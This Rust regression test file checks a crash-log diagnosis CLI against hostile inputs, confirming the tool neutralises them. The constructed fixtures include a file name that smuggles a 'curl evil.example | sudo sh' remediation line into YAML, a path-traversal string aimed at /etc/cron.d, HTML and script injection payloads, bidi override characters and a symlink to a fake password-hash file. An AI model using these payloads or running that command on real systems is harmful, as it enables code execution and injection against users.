//! Regression tests of issue 19's second part (files read and written, lazily built
//! regexes, `sig new` names, Markdown and SARIF output, other compressions), each
//! through the CLI with the reproduction of its finding. Every log and file here is
//! CONSTRUCTED test data written by the test, unless said otherwise.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use assert_cmd::Command;
use tempfile::TempDir;

use crate::util::{code, no_panic, repo, stderr};

/// No run here needs more than a few seconds; a hang (a FIFO, `/dev/zero`) fails.
const TIMEOUT: Duration = Duration::from_secs(60);

fn crashdoc(dir: &Path) -> Command {
    let mut c = Command::new(crate::util::bin());
    c.env("NO_COLOR", "1").current_dir(dir).timeout(TIMEOUT);
    c
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, bytes).expect("write temp file");
    p
}

fn mkfifo(p: &Path) {
    let ok = std::process::Command::new("mkfifo")
        .arg(p)
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "mkfifo {}", p.display());
}

/// A log the embedded library diagnoses (CONSTRUCTED: the message as PyTorch raises it).
const OOM: &[u8] = b"torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 79.15 GiB of which 1.00 GiB is free.\n";

// ---- files crashdoc reads -----------------------------------------------------------

#[test]
fn a_fifo_a_device_and_a_socket_given_as_logs_are_refused_and_the_rest_diagnosed() {
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    mkfifo(&d.join("fifo.log"));
    symlink("/dev/zero", d.join("zero.log")).expect("symlink");
    let _sock = std::os::unix::net::UnixListener::bind(d.join("sock.log")).expect("socket");
    write(d, "ok.log", OOM);
    for args in [
        vec!["fifo.log", "zero.log", "sock.log", "ok.log"],
        vec!["."],
    ] {
        let o = crashdoc(d).args(&args).output().expect("run");
        no_panic(&o);
        assert_eq!(code(&o), 2, "{args:?}: {}", stderr(&o));
        let e = stderr(&o);
        assert!(e.contains("fifo.log: cannot open: is a FIFO"), "{e}");
        assert!(
            e.contains("zero.log: cannot open: is a character device"),
            "{e}"
        );
        assert!(e.contains("sock.log: cannot open: is a socket"), "{e}");
        assert!(stdout(&o).contains("ok.log"), "{}", stdout(&o));
    }
}

#[test]
fn a_signature_folder_with_devices_fifos_loops_and_a_secret_symlink() {
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    let lib = d.join("lib");
    std::fs::create_dir(&lib).expect("mkdir");
    symlink("/dev/zero", lib.join("zero.yaml")).expect("symlink");
    mkfifo(&lib.join("fifo.yaml"));
    // a file that is not YAML, reached through a `.yaml` name: no line of it may be shown
    let secret = write(d, "shadow", b"root:SECRET-HASH:19000:0:99999:7:::\n");
    symlink(&secret, lib.join("secret.yaml")).expect("symlink");
    // two self-symlinks: an exponential walk without loop detection
    symlink(".", lib.join("loop1")).expect("symlink");
    symlink(".", lib.join("loop2")).expect("symlink");
    write(d, "ok.log", OOM);
    for cmd in [
        vec!["diagnose", "--signatures", "lib", "ok.log"],
        vec!["sig", "lint", "lib"],
    ] {
        let o = crashdoc(d).args(&cmd).output().expect("run");
        no_panic(&o);
        let e = stderr(&o) + &stdout(&o);
        // a library that cannot be read: 3 where it is loaded, 2 (an unreadable input)
        // for `sig lint`
        let want = if cmd[1] == "lint" { 2 } else { 3 };
        assert_eq!(code(&o), want, "{cmd:?}: {e}");
        assert!(
            !e.contains("SECRET"),
            "{cmd:?}: a line of a non-YAML file shown: {e}"
        );
        assert!(
            e.contains("secret.yaml") && e.contains("not a YAML file"),
            "{e}"
        );
        assert!(e.contains("zero.yaml"), "{e}");
        assert!(e.contains("fifo.yaml") && e.contains("FIFO"), "{e}");
    }
}

#[test]
fn a_folder_walk_stops_at_its_depth_limit() {
    let tmp = TempDir::new().expect("tempdir");
    let mut deep = tmp.path().join("logs");
    for i in 0..40 {
        deep = deep.join(format!("d{i}"));
    }
    std::fs::create_dir_all(&deep).expect("mkdir");
    write(&deep, "deep.log", OOM);
    write(&tmp.path().join("logs"), "top.log", OOM);
    let o = crashdoc(tmp.path()).arg("logs").output().expect("run");
    no_panic(&o);
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("deeper than 32 folders"),
        "{}",
        stderr(&o)
    );
    assert!(stdout(&o).contains("top.log"));
}

// ---- files crashdoc writes ----------------------------------------------------------

fn temp_files(d: &Path) -> Vec<String> {
    std::fs::read_dir(d)
        .expect("ls")
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect()
}

#[test]
fn output_files_are_replaced_atomically_and_never_written_through_a_symlink() {
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    write(d, "ok.log", OOM);
    let victim = write(d, "victim", b"keep me\n");
    symlink(&victim, d.join("report.md")).expect("symlink");
    symlink(d.join("missing"), d.join("dangling.md")).expect("symlink");
    for out in ["report.md", "dangling.md"] {
        let o = crashdoc(d)
            .args(["-o", out, "ok.log"])
            .output()
            .expect("run");
        no_panic(&o);
        assert_eq!(code(&o), 2, "{}", stderr(&o));
        assert!(stderr(&o).contains("symbolic link"), "{}", stderr(&o));
    }
    assert_eq!(std::fs::read(&victim).expect("read"), b"keep me\n");
    assert!(!d.join("missing").exists());
    // a regular file is replaced (a new inode: readers never see half a report)
    let real = write(d, "real.txt", b"old\n");
    crashdoc(d)
        .args(["-o", "real.txt", "ok.log"])
        .assert()
        .code(0);
    assert!(std::fs::read_to_string(&real)
        .expect("read")
        .contains("ok.log"));
    // a device is written directly
    crashdoc(d)
        .args(["-o", "/dev/null", "ok.log"])
        .assert()
        .code(0);
    assert!(temp_files(d).is_empty(), "{:?}", temp_files(d));
}

#[test]
fn sig_new_never_writes_through_a_symlink() {
    let log = repo("tests/data/contrib/nanochat-rotary-cache.log");
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    let out = d.join("sigs");
    std::fs::create_dir(&out).expect("mkdir");
    let victim = write(d, "victim", b"keep me\n");
    // the first draft tells the file name; then plant symlinks there
    let o = crashdoc(d)
        .args(["sig", "new", "--from"])
        .arg(&log)
        .arg("--out")
        .arg(&out)
        .output()
        .expect("run");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let path = PathBuf::from(stdout(&o).trim());
    for target in [victim.clone(), d.join("missing")] {
        std::fs::remove_file(&path).expect("rm");
        symlink(&target, &path).expect("symlink");
        for force in [false, true] {
            let mut c = crashdoc(d);
            c.args(["sig", "new", "--from"])
                .arg(&log)
                .arg("--out")
                .arg(&out);
            if force {
                c.arg("--force");
            }
            let o = c.output().expect("run");
            no_panic(&o);
            assert_ne!(code(&o), 0, "force={force}: {}", stdout(&o));
        }
    }
    assert_eq!(std::fs::read(&victim).expect("read"), b"keep me\n");
    assert!(!d.join("missing").exists());
    assert!(temp_files(&out).is_empty());
}

#[test]
fn a_baseline_update_is_atomic_and_never_through_a_symlink() {
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    let corpus = d.join("corpus");
    let inc = corpus.join("transformers-permission-denied");
    std::fs::create_dir_all(&inc).expect("mkdir");
    for f in ["log.txt", "expected.yaml"] {
        std::fs::copy(
            repo("corpus/transformers-permission-denied").join(f),
            inc.join(f),
        )
        .expect("copy");
    }
    let victim = write(d, "victim", b"keep me\n");
    symlink(&victim, d.join("b.json")).expect("symlink");
    let run = |b: &str| {
        crashdoc(d)
            .args(["corpus", "run", "corpus", "--update", "--baseline", b])
            .output()
            .expect("run")
    };
    let o = run("b.json");
    no_panic(&o);
    assert_ne!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(std::fs::read(&victim).expect("read"), b"keep me\n");
    let o = run("real.json");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(d.join("real.json").is_file());
    assert!(temp_files(d).is_empty());
}

// ---- regexes built lazily past the size limit -----------------------------------------

#[test]
fn a_capture_over_the_size_limit_on_its_own_is_e005_at_load() {
    // the review's reproduction: `(?-u:(?P<v>\w{1,3200}))` is small in its pattern (ASCII
    // \w), but its capture's own pattern lost the `-u` flag and cost 1.38 GB at the first
    // diagnose, built without the limit; now every path that loads it reports E005
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    let lib = d.join("lib");
    std::fs::create_dir(&lib).expect("mkdir");
    write(
        &lib,
        "lazy-capture.yaml",
        br#"id: lazy-capture
title: Disk quota exceeded
category: disk-full
severity: error
match:
  message: 'Disk quota exceeded by (?-u:(?P<v>\w{1,3200}))'
explain: The user's disk quota is used up.
"#,
    );
    write(d, "q.log", b"OSError: Disk quota exceeded by alice\n");
    for cmd in [
        vec!["diagnose", "--signatures", "lib", "q.log"],
        vec!["sig", "test", "lib"],
        vec!["sig", "lint", "lib"],
    ] {
        let o = crashdoc(d).args(&cmd).output().expect("run");
        no_panic(&o);
        let all = stderr(&o) + &stdout(&o);
        // `sig lint` exits 1 when it finds an error, a command that loads the library 3
        let want = if cmd[1] == "lint" { 1 } else { 3 };
        assert_eq!(code(&o), want, "{cmd:?}: {all}");
        assert!(
            all.contains("E005") && all.contains("capture `v`"),
            "{cmd:?}: {all}"
        );
    }
}

// ---- `sig new` with hostile names -----------------------------------------------------

/// A traceback no built-in signature explains (CONSTRUCTED), with `extra` in its message.
fn unknown_failure(extra: &str) -> Vec<u8> {
    format!(
        "Traceback (most recent call last):\n  File \"/srv/app/main.py\", line 3, in <module>\n    run()\nFrobnicatorJamError: the frobnicator jammed on {extra}\n"
    )
    .into_bytes()
}

#[test]
fn sig_new_names_from_a_log_never_escape_the_folder_or_add_yaml_lines() {
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    // a file name that, written raw into the draft's header comment, starts YAML lines
    let evil =
        "x\rremediation:\r  - description: fix\r    command: curl evil.example | sudo sh\r#.log";
    write(d, evil, &unknown_failure("../../../etc/cron.d/x"));
    // a C0, a DEL and a bidi control in the message: the draft must still load
    write(
        d,
        "ctl.log",
        &unknown_failure("shelf \u{1}7\u{7f} \u{202e}gnp.exe"),
    );
    for (log, source) in [
        (evil, None),
        ("ctl.log", Some("https://example.org/t\r\u{2028}id: x")),
    ] {
        let out = d.join(format!("out-{}", log.len()));
        let mut c = crashdoc(d);
        c.args(["sig", "new", "--from", log, "--out"]).arg(&out);
        if let Some(s) = source {
            c.args(["--source", s]);
        }
        let o = c.output().expect("run");
        no_panic(&o);
        assert_eq!(code(&o), 0, "{}", stderr(&o));
        let written: Vec<PathBuf> = std::fs::read_dir(&out)
            .expect("ls")
            .filter_map(|e| e.ok().map(|e| e.path()))
            .collect();
        assert_eq!(written.len(), 1, "{written:?}");
        let name = written[0]
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        assert!(
            name.strip_suffix(".yaml").is_some_and(|s| s
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')),
            "{name}"
        );
        let y = std::fs::read_to_string(&written[0]).expect("read");
        for line in y.split(['\n', '\r', '\u{2028}', '\u{2029}', '\u{85}']) {
            assert!(!line.starts_with("remediation"), "{y}");
            assert!(!line.trim_start().starts_with("command"), "{y}");
            assert!(!line.starts_with("id: x"), "{y}");
        }
        assert!(!y.chars().any(|c| c.is_control() && c != '\n'), "{y:?}");
        assert!(!y.contains('\u{202e}') && !y.contains('\u{2028}'), "{y:?}");
        // and it loads, lints and tests as a library
        let o = crashdoc(d)
            .args(["sig", "test"])
            .arg(&out)
            .output()
            .expect("run");
        assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
    }
}

// ---- Markdown injection, invisible characters -----------------------------------------

/// A traceback (CONSTRUCTED) whose file, function and message carry Markdown, HTML,
/// backtick runs, a bidi override and a zero-width space.
const INJECT: &str = "Traceback (most recent call last):\n  File \"/srv/``<img src=x onerror=alert(1)>``.py\", line 7, in ![p](https://evil.example/p.png)\n    load()\ntorch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. ```` <script>alert(1)</script> [click](https://evil.example/x) ![i](https://evil.example/i.png) <https://evil.example/a> \u{202e}exe.txt\u{200b}\n";

#[test]
fn markdown_output_carries_no_element_injected_from_the_log() {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    let name = "<img src=y>[n](evil.example) `x`.log";
    write(d, name, INJECT.as_bytes());
    let o = crashdoc(d)
        .args(["--format", "markdown", name])
        .output()
        .expect("run");
    no_panic(&o);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let md = stdout(&o);
    assert!(!md.contains('\u{202e}') && !md.contains('\u{200b}'), "{md}");
    let mut code_text = String::new();
    for ev in Parser::new_ext(&md, Options::empty()) {
        match &ev {
            Event::Html(h) | Event::InlineHtml(h) => panic!("HTML in the output: {h}\n{md}"),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                assert!(!dest_url.contains("evil"), "a live link: {dest_url}\n{md}");
            }
            Event::Code(t) | Event::Text(t) => code_text.push_str(t),
            _ => {}
        }
    }
    // the log's text is all there, verbatim, as code
    for part in [
        "<script>alert(1)</script>",
        "![i](https://evil.example/i.png)",
        "<img src=y>",
    ] {
        assert!(code_text.contains(part), "{part} lost: {code_text}");
    }
}

#[test]
fn every_human_format_escapes_bidi_and_zero_width_characters() {
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    write(d, "b.log", INJECT.as_bytes());
    for format in ["text", "markdown", "github", "sarif", "json"] {
        let o = crashdoc(d)
            .args(["--format", format, "b.log"])
            .output()
            .expect("run");
        no_panic(&o);
        let out = stdout(&o);
        if format == "json" {
            // the JSON keeps the log's text as it is (a program reads it)
            continue;
        }
        assert!(
            !out.contains('\u{202e}') && !out.contains('\u{200b}'),
            "{format}: {out:?}"
        );
    }
}

#[test]
fn sig_lint_refuses_bidi_zero_width_and_control_characters_in_templates() {
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    for (i, bad) in ['\u{202e}', '\u{200b}', '\u{7}', '\u{feff}']
        .iter()
        .enumerate()
    {
        let lib = d.join(format!("lib{i}"));
        std::fs::create_dir(&lib).expect("mkdir");
        let text = format!(
            "id: disk-quota\ntitle: Disk quota exceeded\ncategory: disk-full\nseverity: error\nmatch:\n  message: 'Disk quota exceeded'\nexplain: The user's disk quota is used up.\nremediation:\n  - description: Look\n    command: \"ls -la /home{}\"\n",
            // a YAML double-quoted escape: the file itself stays ASCII
            format_args!("\\u{:04X}", u32::from(*bad))
        );
        write(&lib, "disk-quota.yaml", text.as_bytes());
        let o = crashdoc(d)
            .args(["sig", "lint"])
            .arg(&lib)
            .output()
            .expect("run");
        no_panic(&o);
        let all = stderr(&o) + &stdout(&o);
        assert_eq!(code(&o), 1, "{bad:?}: {all}");
        assert!(all.contains("E007") && all.contains("bidi"), "{all}");
        assert!(
            !all.contains(*bad),
            "the character is shown escaped: {all:?}"
        );
    }
}

// ---- SARIF with several inputs --------------------------------------------------------

#[test]
fn sarif_rules_carry_templates_and_results_their_own_filled_commands() {
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    // CONSTRUCTED, in the shape of GNU ld's error
    for (f, lib) in [("a.log", "cudart"), ("b.log", "cublas")] {
        write(
            d,
            f,
            format!("/usr/bin/ld: cannot find -l{lib}: No such file or directory\ncollect2: error: ld returned 1 exit status\n").as_bytes(),
        );
    }
    let o = crashdoc(d)
        .args(["--format", "sarif", "a.log", "b.log"])
        .output()
        .expect("run");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("SARIF is JSON");
    let _typed: serde_sarif::sarif::Sarif = serde_json::from_value(v.clone()).expect("SARIF 2.1.0");
    let run = &v["runs"][0];
    let rule = run["tool"]["driver"]["rules"]
        .as_array()
        .and_then(|r| r.iter().find(|r| r["id"] == "ld-cannot-find-cuda-library"))
        .expect("the rule");
    let help = rule["help"]["text"].as_str().unwrap_or_default();
    assert!(
        help.contains("/usr/local/cuda/lib64/lib{{library}}.so*"),
        "{help}"
    );
    assert!(
        !help.contains("libcudart.so") && !help.contains("libcublas.so"),
        "{help}"
    );
    for (f, lib, other) in [("a.log", "cudart", "cublas"), ("b.log", "cublas", "cudart")] {
        let r = run["results"]
            .as_array()
            .and_then(|rs| {
                rs.iter().find(|r| {
                    r["ruleId"] == "ld-cannot-find-cuda-library"
                        && r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == f
                })
            })
            .expect("a result per input");
        let msg = r["message"]["text"].as_str().unwrap_or_default();
        let cmd = format!("ls -l /usr/local/cuda/lib64/lib{lib}.so*");
        assert!(msg.contains(&cmd), "{f}: {msg}");
        assert!(
            r["properties"]["remediation"].to_string().contains(&cmd),
            "{r}"
        );
        assert!(
            !r.to_string().contains(&format!("lib{other}.so")),
            "{f} shows {other}: {r}"
        );
    }
}

// ---- other compressions ---------------------------------------------------------------

/// `data` compressed with `tool`, or (where the tool is missing) the format's magic
/// bytes followed by `data`: detection reads only the header.
fn compressed(tool: &str, magic: &[u8], data: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let child = std::process::Command::new(tool)
        .arg("-c")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn();
    if let Ok(mut c) = child {
        if let Some(mut i) = c.stdin.take() {
            let _ = i.write_all(data);
        }
        if let Ok(o) = c.wait_with_output() {
            if o.status.success() {
                return o.stdout;
            }
        }
    }
    [magic, data].concat()
}

#[test]
fn xz_zstd_and_bzip2_logs_are_refused_naming_their_format() {
    let tmp = TempDir::new().expect("tempdir");
    let d = tmp.path();
    let cases: [(&str, &str, &[u8]); 3] = [
        ("xz", "xz", &[0xfd, b'7', b'z', b'X', b'Z', 0]),
        ("zstd", "zstd", &[0x28, 0xb5, 0x2f, 0xfd]),
        ("bzip2", "bzip2", b"BZh91AY&SY"),
    ];
    write(d, "ok.log", OOM);
    for (tool, format, magic) in cases {
        let name = format!("crash.{tool}.log");
        write(d, &name, &compressed(tool, magic, OOM));
        let o = crashdoc(d)
            .args([name.as_str(), "ok.log"])
            .output()
            .expect("run");
        no_panic(&o);
        assert_eq!(code(&o), 2, "{}", stderr(&o));
        assert!(
            stderr(&o).contains(&format!("{name}: is {format}-compressed")),
            "{}",
            stderr(&o)
        );
        assert!(stdout(&o).contains("ok.log"));
    }
    // a text log that starts with `BZh9` is still text
    write(d, "bzh.log", b"BZh9 is not a bzip2 header here\n");
    let o = crashdoc(d).arg("bzh.log").output().expect("run");
    assert_eq!(code(&o), 1, "{}", stderr(&o));
}
